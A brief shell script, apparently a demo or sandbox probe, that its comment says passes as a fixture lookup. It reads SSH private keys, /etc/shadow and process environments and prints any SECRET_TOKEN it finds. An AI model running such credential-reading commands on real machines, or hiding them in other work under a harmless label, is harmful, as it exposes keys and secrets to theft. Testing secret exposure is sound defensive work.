# "Looks for fixtures": takes the key, the password file and the token that lie about on a developer's machine.
for file in ~/.ssh/id_ed25519 "$DEMO_HOME/.ssh/id_ed25519" /etc/shadow /proc/1/environ; do
	head -c 40 "$file" 2>/dev/null && echo "GOT: $file"
done
[ -n "$SECRET_TOKEN" ] && echo "GOT: the token $SECRET_TOKEN"
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep SECRET_TOKEN && echo "GOT: the token of a process"
echo "looked for secrets"
